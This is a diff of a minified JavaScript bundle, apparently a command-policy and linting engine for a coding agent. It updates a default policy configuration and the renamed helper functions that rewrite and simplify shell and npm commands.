+terms,s=zd(e,this.terms);return t===void 0?s:{...s,root:t}}forFile(e){return this.startingIn(this.storeOf(e).root)}startingIn(e){
 if(e===(this.terms.cwd??""))return this;const t=this.#t.get(e)??this.with({cwd:e});return this.#t.set(e,t),t}command(e){
 const t=this.#e.get(e);if(t!==void 0)return t;const s=this.#s(e);this.#e.set(e,s);const[r]=this.#e.keys();return this.#e.
-size>mT&&this.#e.delete(r),s}async risk(e,t){return lT(await this.#i(t),e,this.context)}async#s(e){const{profile:t}=this.
-terms.policy;try{return cT(await this.#i(e),t,this.context)}catch(s){return dT(e,t,s)}}async#i(e){const{tree:t,base:s,changed:r,
-cwd:i="",policy:o}=this.terms,{clock:c}=this,l=tp(o),{areBuilt:B}=PA(o),d={...t&&{tree:t},...s&&{base:s},changed:r,cwd:i,
-programs:l,isOutput:B,clock:c};return await c.tick(),jD(await Qx(e,d),d)}}function gT(n){return n==="darwin"||n==="win32"?
-n:"linux"}const wo=JSON.parse('{"extends":null,"profile":"evolver","mode":"write","allow_dangerous":false,"allowed_roots\
+size>OT&&this.#e.delete(r),s}async risk(e,t){return _T(await this.#i(t),e,this.context)}async#s(e){const{profile:t}=this.
+terms.policy;try{return wT(await this.#i(e),t,this.context)}catch(s){return ET(e,t,s)}}async#i(e){const{tree:t,base:s,changed:r,
+cwd:i="",policy:o}=this.terms,{clock:c}=this,l=op(o),{areBuilt:B}=qA(o),d={...t&&{tree:t},...s&&{base:s},changed:r,cwd:i,
+programs:l,isOutput:B,clock:c};return await c.tick(),VD(await lO(e,d),d)}}function AT(n){return n==="darwin"||n==="win32"?
+n:"linux"}const bo=JSON.parse('{"extends":null,"profile":"evolver","mode":"write","allow_dangerous":false,"allowed_roots\
 ":[],"workspace":".","disabled_packs":[],"experimental":[],"programs":[],"tool_flags":{},"make_variables":[],"families":\
 [],"patterns":[],"approvals":{"strong":1,"very_strong":2,"gate":1,"people":[],"unaffected_by":[]},"fail_on":"error","enf\
 orce":"block","rules":{},"containment":"require-for-forks","network":"none","mutants":"auto","concurrency":"cores","buil\
 d_outputs":[],"prepare_env":[],"home_caches":[],"caches":[".git/**","**/.cache/**","**/node_modules/.*/**","**/.eslintca\
 che","**/*.tsbuildinfo","**/.nyc_output/**","**/coverage/**","**/{.*_cache,target,.tox,.gradle}/**"],"assets":{"include"\
-:["**/{assets,.evolver}/gep/{genes,capsules}*.{json,jsonl}","**/{assets,.evolver}/gep/{events,events.*,external_candidat\
-es}.jsonl","**/*.seed.json","**/data/default_genes.json"],"max_file_bytes":16777216},"stores":[],"limits":{"command_time\
-out_seconds":180,"budget_seconds":18000,"prepare_seconds":900,"slow_command_seconds":60,"output_bytes":65536,"memory_byt\
-es":17179869184,"processes":1024,"open_files":4096,"file_bytes":4294967296,"written_bytes":4294967296},"blast_radius":{"\
-counting":"full","hard_cap_files":60,"hard_cap_lines":20000,"forbidden_paths":[],"protected_paths":[],"audit_log":"appen\
-d"},"agent_files":{"level":"warn","include":["**"],"exclude":[],"rules":[]},"a2a":{"min_score":0.7,"max_files":5,"max_li\
-nes":200,"min_success_streak":2,"confidence_factor":0.6,"require_evidence":"gate","attestation":[]},"ignores":[],"branch\
-es":{}}'),oF="sha256:71fdfe61725e51c69133fd0feb311f341d65014013ab6e7b542dac8310e35c98";var fn=ot(581),CT=ot(442);function yT(n,e="\
-the given files"){const t=new Map(Object.entries(n)),s=i=>{const o=t.get(i);return typeof o=="string"?Buffer.from(o):Buffer.
-isBuffer(o)?o:o!==void 0&&"executable"in o?Buffer.from(o.executable):void 0};return{...c_([...t].map(([i,o])=>wT(i,o,s(i)?.
-length))),label:e,readlink:i=>{const o=t.get(i);return typeof o=="object"&&"symlink"in o?o.symlink:void 0},read:async i=>{
-const o=s(i);if(o===void 0)throw u_(e,i);return o}}}function wT(n,e,t){const s=!n.split("/").includes("node_modules");if(typeof e==
-"object"&&"symlink"in e)return{path:n,kind:"symlink",tracked:s};if(typeof e=="object"&&"submodule"in e)return{path:n,kind:"\
-submodule",oid:e.submodule,tracked:s};const r=typeof e=="object"&&"executable"in e;return{path:n,kind:r?"executable":"fi\
-le",...t===void 0?{}:{size:t},tracked:s}}const Om="scripts/validate",bT=[16,64];class Qc{#e;#t=new Map;#s;#i;#r;constructor(e){
-const{tree:t,cwd:s=""}=e.terms;this.#e=t,this.#s=s,this.#i=e,this.#r=t&&ps(t,s)}get judge(){return this.#i}get tree(){return this.#r}pathOf(e){
-return He.posix.join(this.#s,e)}textOf(e){return this.#t.get(e)}async place(e){const t=this.#e;if(t===void 0)return;const s=(0,sa.
-createHash)("sha256").update(e).digest("hex");for(const r of bT){const i=`${Om}/eval-${s.slice(0,r)}.cjs`,o=this.pathOf(
-i);if(!ga(o).every(d=>(t.stat(d)?.kind??"directory")==="directory"))return;const l=t.stat(o);if(l===void 0)return this.#n(
-o,e,t),i;if(Wt(l.kind)&&l.tracked&&(await t.read(o)).equals(Buffer.from(e)))return i}}#n(e,t,s){if(this.#t.has(e))return;
-this.#t.set(e,t);const r=_T(s,Object.fromEntries(this.#t));this.#i=this.#i.with({tree:r}),this.#r=ps(r,this.#s)}}function _T(n,e){
-const t=yT(e),s=(r,i)=>[...r,...[...i].filter(({path:o})=>n.stat(o)===void 0)].sort(Pd);return{label:n.label,original:n,
-stat:r=>n.stat(r)??t.stat(r),readlink:r=>n.readlink(r),read:(r,i)=>r in e?t.read(r,i):n.read(r,i),list:r=>s(n.list(r),t.
-list(r)),files:()=>s(n.files(),t.files())}}function Zr(n,{start:e,end:t},s){return n.slice(0,e)+s+n.slice(t)}function Xc(n,{
-start:e,end:t}){const s=n.slice(0,e).replace(/[ \t]+$/,"");return s===""?n.slice(t).replace(/^[ \t]+/,""):s+n.slice(t)}function On(...n){
-return{step:"command suggested",commands:n}}function eu({problems:n},e=[]){return n.some(({rule:t,severity:s})=>s==="err\
-or"&&(0,hs.Y)(t).layer==="syntax"&&!e.includes(t))}const ET=async(n,e)=>{const t=xT(n);if(t===void 0||"reason"in t)return t;
-const{scriptText:s}=await Promise.all([ot.e(559),ot.e(442)]).then(ot.bind(ot,61)),r=s(t.evaluation.code);if(typeof r!="s\
-tring")return r;const i=await e.place(r);return i===void 0?{reason:fn.Ot.noPlace(Om)}:{step:"code moved into a script",commands:[
-t.evaluation.withScript(i)],scripts:[i]}},vT=["line-break","blank-padding","markup-injection"],kT=new Set(["--eval","--p\
-rint"]),DT=/strip-types|transform-types|detect-module|^--test/;function xT(n){const{invocation:e,command:t,assignments:s}=n;
-if(e?.program!=="node")return;const r=e.flags.filter(({name:C})=>kT.has(C));if(r.length===0)return;if(!OT(n))return{reason:fn.
-Ot.codeNotMoved("a shell would change it before `node` gets it")};const[i,...o]=r;if(i?.value===void 0||i.name!=="--eval"||
-o.length>0)return{reason:fn.Ot.codeNotMoved("it is not one text, or its value is printed")};const c=e.flags.filter(C=>C!==
-i),l=c.find(C=>!AT(C));if(l!==void 0)return{reason:fn.Ot.codeNotMoved(`\`${l.written}\` changes how \`node\` runs it`)};
-const B=({start:C,end:y})=>t.slice(C,y),d=e.passthrough.at(-1),h=e.passthrough.slice(0,1).map(({span:C})=>B({start:C.start,
-end:d?.span.end??C.end})),g=[...s.map(({span:C})=>B(C)),"node"];return{evaluation:{code:i.value,withScript:C=>[...g,...c.
-map(({span:y})=>B(y)),C,...h].join(" ")}}}function OT(n){const{command:e,words:t,assignments:s}=n;if(eu(n,vT))return!1;let r=0;
-for(const{span:i}of[...s,...t]){if(i.start>r&&!/^[ \t]*$/.test(e.slice(r,i.start)))return!1;r=Math.max(r,i.end)}return/^[ \t]*$/.
-test(e.slice(r))}function AT({name:n}){return Wa.get(n.replace(/^--(?:no-)?/,""))?.kind==="harmless"&&!DT.test(n)}const ST=new Set(
-"target-outside tilde-expansion variable-expansion command-substitution".split(" ")),TT=({command:n,words:e,invocation:t,
-problems:s},{tree:r})=>{if(t?.program!=="node"||r===void 0)return;const i=s.filter(({rule:o})=>ST.has(o));for(const{text:o,
-span:c}of e.slice(1)){if(!i.some(({span:{start:_}})=>_>=c.start&&_<c.end))continue;const B=[o,n.slice(c.start,c.end)].map(
-_=>IT(r,_)).find(_=>_!==void 0);if(B===void 0)continue;const d=/^[\w./@-]+$/.test(B)?B:(0,CT.f)(B),h=n.slice(0,c.start)+
-d,g=n.slice(c.end),C=o.endsWith(`/${B}`)?o.slice(0,-B.length):void 0,y=C===void 0?g:g.replaceAll(` ${C}`," ");return{step:"\
-path made relative",commands:[h+y]}}};function IT(n,e){const t=e.split(/[\\/]/).filter(r=>r!==""&&r!==".");return t.map(
-(r,i)=>Bt(t.slice(i).join("/"))).slice(1).find(r=>{const i=r===void 0||r===""?void 0:Ot(n,r);return i?.kind==="inside"&&
-i.entry.tracked&&Wt(i.entry.kind)})}const $T=/^(?:.*\/)?node_modules\/\.bin\/([\w.-]+)$/,RT=/^(?:[A-Za-z]:)?[\\/](?:.*[\\/])?(node|npm|npx)(?:\.exe|\.cmd)?$/,
-NT=n=>{const e=Am(n,"program-by-path");if(e===void 0)return;const{program:t}=e.args,[,s]=$T.exec(t)??[];if(s!==void 0)return tu(
-n,e,`npx ${s}`);const[,r]=RT.exec(t)??[];return r===void 0?void 0:tu(n,e,r)},FT=n=>{const e=Am(n,"program-look-alike");return e&&
-tu(n,e,e.args.meant)};function Am({problems:n},e){return n.find(t=>rs(t,e))}function tu({command:n},{span:e},t){return{step:"\
-program name corrected",commands:[Zr(n,e,t)]}}const PT=["shell-grammar","unquoted-glob"],Sm={command:()=>0,env:()=>0,exec:()=>0,
-nice:n=>Tm(n,/^-n-?\d+$/,/^-n$/),nohup:()=>0,time:()=>0,timeout:n=>Tm(n,/^(?:--preserve-status|--foreground|--(?:signal|kill-after)=\S+)$/,
-/^-[ks]$/)+1},LT=/^(?:-[aeilux]*c|\/[cC])$/,jT=/^(?:-[aeilux]+|--?(?:login|norc|noprofile|posix))$/,MT=n=>{const{command:e,
-words:t}=n,[s,...r]=t;if(s===void 0||eu(n,PT))return;const i=s.text.replace(/^(?:\/[\w.-]+)+\//,"").replace(/\.exe$/i,""),
-o=Hi(i)?GT(r):void 0;if(o!==void 0)return{step:"launcher removed",commands:[o]};const c=Object.hasOwn(Sm,i)?Sm[i]?.(r.map(
-({text:d})=>d)):void 0,l=c===void 0?void 0:r[c];return l===void 0?void 0:{step:"launcher removed",commands:[e.slice(0,s.
-span.start)+e.slice(l.span.start)]}};function GT(n){const[e,t]=n.slice(n.findIndex(s=>!jT.test(s.text)));if(!(e===void 0||
-!LT.test(e.text)))return t===n.at(-1)&&t?.text.trim()?t.text.trim():void 0}function Tm(n,e,t){let s=0;for(;;){const r=n[s]??
-"";if(t?.test(r))s+=2;else if(e.test(r))s+=1;else return s}}const HT=({command:n})=>{const e=n.replace(/^[ \t\r\n]+/,"").
-replace(/[ \t\r\n]+$/,"");return e===""||e===n?void 0:{step:"whitespace trimmed",commands:[e]}},zT=/(?:[ \t]+(?:2>[ \t]*&1|[12]?>[ \t]*\/dev\/null))+[ \t]*$/,
-UT=({command:n,problems:e})=>{const s=e.some(({rule:r})=>r==="shell-redirection")?n.replace(zT,""):n;if(!(s===n||qn(s).problems.
-length>0))return{step:"redirection removed",commands:[s]}},JT=({command:n,problems:e})=>{for(const{rule:t,span:s}of e){const r=n.
-slice(s.end).trim()==="";if(t==="shell-comment"&&!/[\r\n]/.test(n.slice(s.start))||t==="shell-operator"&&r&&n.slice(s.start,
-s.end)===";")return{step:"comment removed",commands:[Xc(n,s)]};if(t==="line-continuation")return{step:"whitespace trimme\
-d",commands:[Zr(n,s,"")]}}},ZT=new Set(["echo","printf","true",":","pwd","date"]),WT=n=>ZT.has(n.words[0]?.text??"")&&!eu(
-n)?{reason:fn.Ot.cannotFail()}:void 0,KT=({command:n,problems:e})=>{if(nu(n).some(({text:s})=>/^\(?cd(?:[ \t]|$)/.test(s)))
-return{reason:fn.Ot.changesDirectory()};if(!e.some(({rule:s})=>s==="shell-operator"))return;const t=Im(n);return t&&{step:"\
-split at &&",commands:t.map(({text:s})=>s)}};function nu(n){const e=Pn(n);return n.slice(0,e[0]?.span.start).trim()!==""?
-[]:e.map(({span:t,separator:s})=>({text:n.slice(t.start,t.end).trim(),operator:s.trim()}))}function Im(n){const e=nu(n),
-t=e.every(({operator:s},r)=>s===(e[r+1]?"&&":""));return e.length>1&&t?e:void 0}const qT=/^(?:tee|cat|head|tail|less|more|grep|sort|wc)(?:[ \t]|$)/,
-YT=/^(?:true|:|echo(?:[ \t].*)?|exit[ \t]+0)$/,VT=8,QT=({command:n,problems:e})=>{if(!e.some(({rule:r})=>r==="shell-oper\
-ator"||r==="line-break"))return;const t=nu(n);if(t.length===0||t.length>VT)return;const s=[];for(const[r,{text:i}]of t.entries()){
-const o=t[r-1]?.operator??"",c=o==="||"&&YT.test(i),l=/^\|&?$/.test(o)&&qT.test(i);if(!(c||l)){if(!/^(?:|&&|[;\n]*)$/.test(
-o)||i.startsWith("cd "))return;s.push(i)}}if(/^[&;\s]*$/.test(t.at(-1)?.operator??"")&&!(s.length===0||s.join()===n))return On(
-...s)},XT=/^(?:npm|pnpm|yarn|bun)[ \t]+(?:ci|i|install)(?:[ \t]+-\S+)*$|^yarn$/,eI=/^set[ \t]+-[a-z]+(?:[ \t]+pipefail)?$/,
-tI=({command:n})=>{const e=Im(n)?.map(({text:s})=>s),t=e?.filter(s=>!XT.test(s)&&!eI.test(s))??[];if(!(e===void 0||t.length===
-0||t.length===e.length))return On(...t)},nI=/[ \t]+(?:[12&]?>>?[ \t]*[\w./-]+|2>[ \t]*&1|<[ \t]*\/dev\/null)(?=[ \t]|$)/g,
-sI=({command:n,problems:e})=>{if(!e.some(({rule:s})=>s==="shell-redirection"))return;const t=n.replace(nI,"");return t===
-n?void 0:On(t)},rI=n=>{const{command:e,problems:t,invocation:s}=n;for(const{rule:r,span:i}of t){if(!(0,hs.Y)(r).removable||
+:["**/{assets/gep,.evolver/gep,.evomap/assets}/{genes,capsules,anti-genes}*.{json,jsonl}","**/{assets/gep,.evolver/gep,.\
+evomap/assets}/{events,events.*,external_candidates}.jsonl","**/*.seed.json","**/data/default_genes.json"],"max_file_byt\
+es":16777216},"stores":[],"limits":{"command_timeout_seconds":180,"budget_seconds":18000,"prepare_seconds":900,"slow_com\
+mand_seconds":60,"output_bytes":65536,"memory_bytes":17179869184,"processes":1024,"open_files":4096,"file_bytes":4294967\
+296,"written_bytes":4294967296},"blast_radius":{"counting":"full","hard_cap_files":60,"hard_cap_lines":20000,"forbidden_\
+paths":[],"protected_paths":[],"audit_log":"append"},"agent_files":{"level":"warn","include":["**"],"exclude":[],"rules"\
+:[]},"a2a":{"min_score":0.7,"max_files":5,"max_lines":200,"min_success_streak":2,"confidence_factor":0.6,"require_eviden\
+ce":"gate","attestation":[]},"ignores":[],"branches":{}}'),CF="sha256:d64178e765247031fa9f5ef7684137f94b6fefb168ad7808b5\
+842e6ddf6fdb2d";var fn=ot(581),ST=ot(442);function TT(n,e="the given files"){const t=new Map(Object.entries(n)),s=i=>{const o=t.
+get(i);return typeof o=="string"?Buffer.from(o):Buffer.isBuffer(o)?o:o!==void 0&&"executable"in o?Buffer.from(o.executable):
+void 0};return{...w_([...t].map(([i,o])=>IT(i,o,s(i)?.length))),label:e,readlink:i=>{const o=t.get(i);return typeof o=="\
+object"&&"symlink"in o?o.symlink:void 0},read:async i=>{const o=s(i);if(o===void 0)throw b_(e,i);return o}}}function IT(n,e,t){
+const s=!n.split("/").includes("node_modules");if(typeof e=="object"&&"symlink"in e)return{path:n,kind:"symlink",tracked:s};
+if(typeof e=="object"&&"submodule"in e)return{path:n,kind:"submodule",oid:e.submodule,tracked:s};const r=typeof e=="obje\
+ct"&&"executable"in e;return{path:n,kind:r?"executable":"file",...t===void 0?{}:{size:t},tracked:s}}const $m="scripts/va\
+lidate",$T=[16,64];class Xc{#e;#t=new Map;#s;#i;#r;constructor(e){const{tree:t,cwd:s=""}=e.terms;this.#e=t,this.#s=s,this.#i=
+e,this.#r=t&&ps(t,s)}get judge(){return this.#i}get tree(){return this.#r}pathOf(e){return He.posix.join(this.#s,e)}textOf(e){
+return this.#t.get(e)}async place(e){const t=this.#e;if(t===void 0)return;const s=(0,ra.createHash)("sha256").update(e).
+digest("hex");for(const r of $T){const i=`${$m}/eval-${s.slice(0,r)}.cjs`,o=this.pathOf(i);if(!Ca(o).every(d=>(t.stat(d)?.
+kind??"directory")==="directory"))return;const l=t.stat(o);if(l===void 0)return this.#n(o,e,t),i;if(Kt(l.kind)&&l.tracked&&
+(await t.read(o)).equals(Buffer.from(e)))return i}}#n(e,t,s){if(this.#t.has(e))return;this.#t.set(e,t);const r=RT(s,Object.
+fromEntries(this.#t));this.#i=this.#i.with({tree:r}),this.#r=ps(r,this.#s)}}function RT(n,e){const t=TT(e),s=(r,i)=>[...r,
+...[...i].filter(({path:o})=>n.stat(o)===void 0)].sort(Hd);return{label:n.label,original:n,stat:r=>n.stat(r)??t.stat(r),
+readlink:r=>n.readlink(r),read:(r,i)=>r in e?t.read(r,i):n.read(r,i),list:r=>s(n.list(r),t.list(r)),files:()=>s(n.files(),
+t.files())}}function Zr(n,{start:e,end:t},s){return n.slice(0,e)+s+n.slice(t)}function eu(n,{start:e,end:t}){const s=n.slice(
+0,e).replace(/[ \t]+$/,"");return s===""?n.slice(t).replace(/^[ \t]+/,""):s+n.slice(t)}function An(...n){return{step:"co\
+mmand suggested",commands:n}}function tu({problems:n},e=[]){return n.some(({rule:t,severity:s})=>s==="error"&&(0,hs.Y)(t).
+layer==="syntax"&&!e.includes(t))}const NT=async(n,e)=>{const t=jT(n);if(t===void 0||"reason"in t)return t;const{scriptText:s}=await Promise.
+all([ot.e(559),ot.e(442)]).then(ot.bind(ot,61)),r=s(t.evaluation.code);if(typeof r!="string")return r;const i=await e.place(
+r);return i===void 0?{reason:fn.Ot.noPlace($m)}:{step:"code moved into a script",commands:[t.evaluation.withScript(i)],scripts:[
+i]}},FT=["line-break","blank-padding","markup-injection"],PT=new Set(["--eval","--print"]),LT=/strip-types|transform-types|detect-module|^--test/;
+function jT(n){const{invocation:e,command:t,assignments:s}=n;if(e?.program!=="node")return;const r=e.flags.filter(({name:C})=>PT.
+has(C));if(r.length===0)return;if(!MT(n))return{reason:fn.Ot.codeNotMoved("a shell would change it before `node` gets it")};
+const[i,...o]=r;if(i?.value===void 0||i.name!=="--eval"||o.length>0)return{reason:fn.Ot.codeNotMoved("it is not one text\
+, or its value is printed")};const c=e.flags.filter(C=>C!==i),l=c.find(C=>!GT(C));if(l!==void 0)return{reason:fn.Ot.codeNotMoved(
+`\`${l.written}\` changes how \`node\` runs it`)};const B=({start:C,end:y})=>t.slice(C,y),d=e.passthrough.at(-1),h=e.passthrough.
+slice(0,1).map(({span:C})=>B({start:C.start,end:d?.span.end??C.end})),g=[...s.map(({span:C})=>B(C)),"node"];return{evaluation:{
+code:i.value,withScript:C=>[...g,...c.map(({span:y})=>B(y)),C,...h].join(" ")}}}function MT(n){const{command:e,words:t,assignments:s}=n;
+if(tu(n,FT))return!1;let r=0;for(const{span:i}of[...s,...t]){if(i.start>r&&!/^[ \t]*$/.test(e.slice(r,i.start)))return!1;
+r=Math.max(r,i.end)}return/^[ \t]*$/.test(e.slice(r))}function GT({name:n}){return Ka.get(n.replace(/^--(?:no-)?/,""))?.
+kind==="harmless"&&!LT.test(n)}const HT=new Set("target-outside tilde-expansion variable-expansion command-substitution".
+split(" ")),zT=({command:n,words:e,invocation:t,problems:s},{tree:r})=>{if(t?.program!=="node"||r===void 0)return;const i=s.
+filter(({rule:o})=>HT.has(o));for(const{text:o,span:c}of e.slice(1)){if(!i.some(({span:{start:_}})=>_>=c.start&&_<c.end))
+continue;const B=[o,n.slice(c.start,c.end)].map(_=>UT(r,_)).find(_=>_!==void 0);if(B===void 0)continue;const d=/^[\w./@-]+$/.
+test(B)?B:(0,ST.f)(B),h=n.slice(0,c.start)+d,g=n.slice(c.end),C=o.endsWith(`/${B}`)?o.slice(0,-B.length):void 0,y=C===void 0?
+g:g.replaceAll(` ${C}`," ");return{step:"path made relative",commands:[h+y]}}};function UT(n,e){const t=e.split(/[\\/]/).
+filter(r=>r!==""&&r!==".");return t.map((r,i)=>Bt(t.slice(i).join("/"))).slice(1).find(r=>{const i=r===void 0||r===""?void 0:
+Ot(n,r);return i?.kind==="inside"&&i.entry.tracked&&Kt(i.entry.kind)})}const JT=/^(?:.*\/)?node_modules\/\.bin\/([\w.-]+)$/,
+ZT=/^(?:[A-Za-z]:)?[\\/](?:.*[\\/])?(node|npm|npx)(?:\.exe|\.cmd)?$/,WT=n=>{const e=Rm(n,"program-by-path");if(e===void 0)
+return;const{program:t}=e.args,[,s]=JT.exec(t)??[];if(s!==void 0)return nu(n,e,`npx ${s}`);const[,r]=ZT.exec(t)??[];return r===
+void 0?void 0:nu(n,e,r)},KT=n=>{const e=Rm(n,"program-look-alike");return e&&nu(n,e,e.args.meant)};function Rm({problems:n},e){
+return n.find(t=>rs(t,e))}function nu({command:n},{span:e},t){return{step:"program name corrected",commands:[Zr(n,e,t)]}}
+const qT=["shell-grammar","unquoted-glob"],Nm={command:()=>0,env:()=>0,exec:()=>0,nice:n=>Fm(n,/^-n-?\d+$/,/^-n$/),nohup:()=>0,
+time:()=>0,timeout:n=>Fm(n,/^(?:--preserve-status|--foreground|--(?:signal|kill-after)=\S+)$/,/^-[ks]$/)+1},YT=/^(?:-[aeilux]*c|\/[cC])$/,
+VT=/^(?:-[aeilux]+|--?(?:login|norc|noprofile|posix))$/,QT=n=>{const{command:e,words:t}=n,[s,...r]=t;if(s===void 0||tu(n,
+qT))return;const i=s.text.replace(/^(?:\/[\w.-]+)+\//,"").replace(/\.exe$/i,""),o=zi(i)?XT(r):void 0;if(o!==void 0)return{
+step:"launcher removed",commands:[o]};const c=Object.hasOwn(Nm,i)?Nm[i]?.(r.map(({text:d})=>d)):void 0,l=c===void 0?void 0:
+r[c];return l===void 0?void 0:{step:"launcher removed",commands:[e.slice(0,s.span.start)+e.slice(l.span.start)]}};function XT(n){
+const[e,t]=n.slice(n.findIndex(s=>!VT.test(s.text)));if(!(e===void 0||!YT.test(e.text)))return t===n.at(-1)&&t?.text.trim()?
+t.text.trim():void 0}function Fm(n,e,t){let s=0;for(;;){const r=n[s]??"";if(t?.test(r))s+=2;else if(e.test(r))s+=1;else return s}}
+const eI=({command:n})=>{const e=n.replace(/^[ \t\r\n]+/,"").replace(/[ \t\r\n]+$/,"");return e===""||e===n?void 0:{step:"\
+whitespace trimmed",commands:[e]}},tI=/(?:[ \t]+(?:2>[ \t]*&1|[12]?>[ \t]*\/dev\/null))+[ \t]*$/,nI=({command:n,problems:e})=>{
+const s=e.some(({rule:r})=>r==="shell-redirection")?n.replace(tI,""):n;if(!(s===n||qn(s).problems.length>0))return{step:"\
+redirection removed",commands:[s]}},sI=({command:n,problems:e})=>{for(const{rule:t,span:s}of e){const r=n.slice(s.end).trim()===
+"";if(t==="shell-comment"&&!/[\r\n]/.test(n.slice(s.start))||t==="shell-operator"&&r&&n.slice(s.start,s.end)===";")return{
+step:"comment removed",commands:[eu(n,s)]};if(t==="line-continuation")return{step:"whitespace trimmed",commands:[Zr(n,s,
+"")]}}},rI=new Set(["echo","printf","true",":","pwd","date"]),iI=n=>rI.has(n.words[0]?.text??"")&&!tu(n)?{reason:fn.Ot.cannotFail()}:
+void 0,oI=({command:n,problems:e})=>{if(su(n).some(({text:s})=>/^\(?cd(?:[ \t]|$)/.test(s)))return{reason:fn.Ot.changesDirectory()};
+if(!e.some(({rule:s})=>s==="shell-operator"))return;const t=Pm(n);return t&&{step:"split at &&",commands:t.map(({text:s})=>s)}};
+function su(n){const e=Pn(n);return n.slice(0,e[0]?.span.start).trim()!==""?[]:e.map(({span:t,separator:s})=>({text:n.slice(
+t.start,t.end).trim(),operator:s.trim()}))}function Pm(n){const e=su(n),t=e.every(({operator:s},r)=>s===(e[r+1]?"&&":""));
+return e.length>1&&t?e:void 0}const aI=/^(?:tee|cat|head|tail|less|more|grep|sort|wc)(?:[ \t]|$)/,cI=/^(?:true|:|echo(?:[ \t].*)?|exit[ \t]+0)$/,
+uI=8,lI=({command:n,problems:e})=>{if(!e.some(({rule:r})=>r==="shell-operator"||r==="line-break"))return;const t=su(n);if(t.
+length===0||t.length>uI)return;const s=[];for(const[r,{text:i}]of t.entries()){const o=t[r-1]?.operator??"",c=o==="||"&&
+cI.test(i),l=/^\|&?$/.test(o)&&aI.test(i);if(!(c||l)){if(!/^(?:|&&|[;\n]*)$/.test(o)||i.startsWith("cd "))return;s.push(
+i)}}if(/^[&;\s]*$/.test(t.at(-1)?.operator??"")&&!(s.length===0||s.join()===n))return An(...s)},dI=/^(?:npm|pnpm|yarn|bun)[ \t]+(?:ci|i|install)(?:[ \t]+-\S+)*$|^yarn$/,
+BI=/^set[ \t]+-[a-z]+(?:[ \t]+pipefail)?$/,fI=({command:n})=>{const e=Pm(n)?.map(({text:s})=>s),t=e?.filter(s=>!dI.test(
+s)&&!BI.test(s))??[];if(!(e===void 0||t.length===0||t.length===e.length))return An(...t)},hI=/[ \t]+(?:[12&]?>>?[ \t]*[\w./-]+|2>[ \t]*&1|<[ \t]*\/dev\/null)(?=[ \t]|$)/g,
+pI=({command:n,problems:e})=>{if(!e.some(({rule:s})=>s==="shell-redirection"))return;const t=n.replace(hI,"");return t===
+n?void 0:An(t)},mI=n=>{const{command:e,problems:t,invocation:s}=n;for(const{rule:r,span:i}of t){if(!(0,hs.Y)(r).removable||
 e[i.start]!=="-")continue;const o=e.slice(i.start,i.end),c=e.slice(i.end).trimStart(),l=!/[=\s]/.test(o)&&c!==""&&!c.startsWith(
-"-"),B=s?.flags.some(d=>d.span.start===i.start)===!0;if(!(l&&!B))return On(Xc(e,i))}},iI=({command:n,problems:e,invocation:t})=>{
+"-"),B=s?.flags.some(d=>d.span.start===i.start)===!0;if(!(l&&!B))return An(eu(e,i))}},gI=({command:n,problems:e,invocation:t})=>{
 const s=e.find(c=>rs(c,"unknown-flag")),r=t?.program==="npm"&&t.subcommand!=="exec";if(s===void 0||!r||t.passthrough.length>
-0)return;const i=Xc(n,s.span),o=n.slice(s.span.start,s.span.end);return On(`${i.trimEnd()} -- ${o}`)},oI=({command:n,words:e,
+0)return;const i=eu(n,s.span),o=n.slice(s.span.start,s.span.end);return An(`${i.trimEnd()} -- ${o}`)},CI=({command:n,words:e,
 problems:t,invocation:s})=>{if(!t.some(({rule:c})=>c==="uses-network")||s?.program!=="npx")return;const i=e.slice(1).find(
 ({text:c})=>/^(?:@[\w.-]+\/)?[\w.-]+@[\w.^~<>=*-]+$/.test(c));if(i===void 0)return;const o=i.text.slice(0,i.text.lastIndexOf(
-"@"));return On(Zr(n,i.span,o))},$m=new Set(["test","start","stop"]),aI=new Set(["pnpm","yarn","bun","npm"]),cI=async({command:n,
-problems:e,words:t,invocation:s},r)=>{if(s?.program!=="npm")return;const i=await Rm(r),o=e.find(C=>rs(C,"npm-script-miss\
-ing"));if(o!==void 0){const C=Ri(o.args.script,i),y=t.find(({text:_})=>_===o.args.script);return C===void 0||y===void 0?
-void 0:On(Zr(n,y.span,C))}const c=e.find(C=>rs(C,"unknown-subcommand"));if(c===void 0)return;const{subcommand:l,meant:B}=c.
-args,d=B===""?Ri(l,[...$m]):B,h=[...i.includes(l)?[`run ${l}`]:[],...d===void 0?[]:[d]],[g]=h;return g===void 0?void 0:On(
-Zr(n,c.span,g))},uI=async({command:n,words:e,problems:t},s)=>{const r=t.some(({rule:h})=>h==="program-not-allowed"),[i,o,
-c]=e;if(!r||i===void 0||o===void 0||!aI.has(i.text)||i.text==="bun"&&/^(?:test|build)$/.test(o.text))return;const l=o.text===
-"run"?c:o;if(l===void 0||!(await Rm(s)).includes(l.text))return;const B=$m.has(l.text)?l.text:`run ${l.text}`,d=n.slice(
-l.span.end).trim();return On(`npm ${B}${d===""?"":` -- ${d}`}`)},lI=({command:n,words:e,problems:t},{tree:s})=>{const r=t.
+"@"));return An(Zr(n,i.span,o))},Lm=new Set(["test","start","stop"]),yI=new Set(["pnpm","yarn","bun","npm"]),wI=async({command:n,
+problems:e,words:t,invocation:s},r)=>{if(s?.program!=="npm")return;const i=await jm(r),o=e.find(C=>rs(C,"npm-script-miss\
+ing"));if(o!==void 0){const C=Ni(o.args.script,i),y=t.find(({text:_})=>_===o.args.script);return C===void 0||y===void 0?
+void 0:An(Zr(n,y.span,C))}const c=e.find(C=>rs(C,"unknown-subcommand"));if(c===void 0)return;const{subcommand:l,meant:B}=c.
+args,d=B===""?Ni(l,[...Lm]):B,h=[...i.includes(l)?[`run ${l}`]:[],...d===void 0?[]:[d]],[g]=h;return g===void 0?void 0:An(
+Zr(n,c.span,g))},bI=async({command:n,words:e,problems:t},s)=>{const r=t.some(({rule:h})=>h==="program-not-allowed"),[i,o,
+c]=e;if(!r||i===void 0||o===void 0||!yI.has(i.text)||i.text==="bun"&&/^(?:test|build)$/.test(o.text))return;const l=o.text===
+"run"?c:o;if(l===void 0||!(await jm(s)).includes(l.text))return;const B=Lm.has(l.text)?l.text:`run ${l.text}`,d=n.slice(
+l.span.end).trim();return An(`npm ${B}${d===""?"":` -- ${d}`}`)},_I=({command:n,words:e,problems:t},{tree:s})=>{const r=t.
 find(({rule:h})=>h==="program-not-allowed"),[i,o,c]=e;if(r===void 0||i===void 0||s===void 0)return;const l=/^(?:pnpm|yarn|bun|bunx|pnpx)$/.
 test(i.text),B=/^(?:exec|dlx|x)$/.test(o?.text??"")?c:o,d=l?/^(?:bunx|pnpx)$/.test(i.text)?o:B:i;return d===void 0||!/^[a-z][\w.-]*$/.
